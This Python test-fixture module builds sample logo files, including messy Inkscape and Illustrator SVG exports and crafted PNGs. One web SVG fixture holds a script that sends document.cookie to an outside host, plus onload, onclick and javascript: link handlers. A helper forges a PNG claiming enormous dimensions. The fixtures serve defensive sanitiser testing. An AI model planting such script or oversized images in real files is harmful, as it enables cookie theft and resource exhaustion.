"""Logos as hospitals have them: plain, dirty, of many shapes, and files that are no logos at all."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

XMLNS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
HTML = "<!DOCTYPE html>\n<html><head><title>Logo</title></head><body><svg></svg></body></html>\n"

INKSCAPE = """\
<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg width="60mm" height="15mm" viewBox="-10,-5 200,50" version="1.1" id="svg8"
   inkscape:version="1.2" sodipodi:docname="logo.svg"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:xlink="http://www.w3.org/1999/xlink" xmlns="http://www.w3.org/2000/svg"
   xmlns:svg="http://www.w3.org/2000/svg" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
   xmlns:cc="http://creativecommons.org/ns#" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <sodipodi:namedview id="base" pagecolor="#ffffff" inkscape:zoom="0.7"/>
  <defs id="defs2">
    <linearGradient id="stops"><stop style="stop-color:#0b6b6b;stop-opacity:1" offset="0"/>
      <stop style="stop-color:#f0c000;stop-opacity:1" offset="1"/></linearGradient>
    <linearGradient inkscape:collect="always" xlink:href="#stops" id="fade" x1="0" y1="0" x2="100" y2="0"
      gradientUnits="userSpaceOnUse"/>
    <filter id="blur"><feGaussianBlur stdDeviation="2"/></filter>
    <inkscape:perspective id="perspective1"/>
  </defs>
  <metadata><rdf:RDF><cc:Work rdf:about=""><dc:title>Logo</dc:title></cc:Work></rdf:RDF></metadata>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1" style="display:inline;fill:#1d1d1b">
    <rect id="tile" x="0" y="0" width="100" height="40" style="fill:url(#fade);stroke:none;-inkscape-stroke:none"/>
    <path id="wedge" d="M 110,0 H 150 V 40 Z" sodipodi:nodetypes="cccc" style="font-variant-ligatures:normal"/>
    <use xlink:href="#wedge" x="220" y="5" transform="scale(0.5)" id="use1"/>
  </g>
  <g style="display:none"><text>guides</text></g>
</svg>
"""
ILLUSTRATOR = """\
<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 27.0, SVG Export Plug-In -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" x="0px" y="0px" width="200px" height="50px"
  viewBox="0 0 200 50" style="enable-background:new 0 0 200 50;" xml:space="preserve"
  xmlns:i="http://ns.adobe.com/AdobeIllustrator/10.0/">
<style type="text/css">
  .st0{fill:#0B6B6B;}
  .st1{fill:none;stroke:#E8894F;stroke-width:4;stroke-linecap:round;}
  .st0.wide, #mark > path{fill:#22313F !important}
  @font-face{font-family:Gotham;src:url(https://example.org/gotham.woff)}
  @media (prefers-color-scheme: dark){.st0{fill:#ffffff}}
</style>
<switch>
  <foreignObject requiredExtensions="http://ns.adobe.com/AdobeIllustrator/10.0/" x="0" y="0" width="1" height="1">
    <i:aipgfRef xlink:href="#adobe_illustrator_pgf" xmlns:xlink="http://www.w3.org/1999/xlink"/>
  </foreignObject>
  <g i:extraneous="self">
    <circle class="st0" cx="25" cy="25" r="20" style="fill:#445566"/>
    <rect class="st0 wide" x="60" y="5" width="60" height="40"/>
    <g id="mark"><path class="st0" d="M130 5h20v40z"/></g>
    <line class="st1" x1="160" y1="10" x2="190" y2="40"/>
  </g>
</switch>
<i:pgf id="adobe_illustrator_pgf">eJzNvWuP</i:pgf>
</svg>
"""
WEB = f"""\
<svg {XMLNS} width="10em" height="100%" viewBox="0 0 200 50" preserveAspectRatio="none" onload="track()" role="img">
<title>Oak</title>
<script type="text/javascript"><![CDATA[ fetch("https://example.org/" + document.cookie) ]]></script>
<a href="javascript:alert(1)" target="_blank"><path d="M0 0h90v50h-90z" fill="#4f46a5" onclick="go()"/></a>
<defs><symbol id="leaf"><circle cx="10" cy="10" r="8" fill="#88aa33"/></symbol></defs>
<use href="#leaf" x="100"/><use href="#leaf" x="130px" y="20" opacity="0.5"/>
<animate attributeName="x" from="0" to="9" dur="1s"/>
</svg>
"""
PREFIXED = (
    '<svg:svg xmlns:svg="http://www.w3.org/2000/svg" viewBox="0 0 20 10">'
    '<svg:rect width="20" height="10" fill="#336699"/></svg:svg>'
)
DIRTY = {"inkscape": INKSCAPE, "illustrator": ILLUSTRATOR, "web": WEB, "prefixed": PREFIXED}


def drawing(inner: str, *, box: str = 'viewBox="0 0 40 10"') -> str:
    """Return an SVG with these shapes."""
    return f"<svg {XMLNS} {box}>{inner}</svg>"


def plain(ratio: float, colour: str = "#336699") -> str:
    """Return a logo that is one rectangle to its edges."""
    return drawing(f'<rect width="{100 * ratio:g}" height="100" fill="{colour}"/>',
                   box=f'viewBox="0 0 {100 * ratio:g} 100"')


def png(width: int, height: int, *, mode: str = "RGB", colour: object = None, **options: object) -> bytes:
    """Return a PNG of one colour."""
    written = io.BytesIO()
    image = Image.new(mode, (width, height), colour)  # type: ignore[arg-type]  # a colour of this mode
    image.save(written, "PNG", **options)  # type: ignore[arg-type]  # options of Pillow's writer
    return written.getvalue()


def vast_png(width: int, height: int) -> bytes:
    """Return a PNG that says that it is so large, with a few bytes of pixels: nobody has to write 200 million."""
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 1_000_000))
            + chunk(b"IEND", b""))
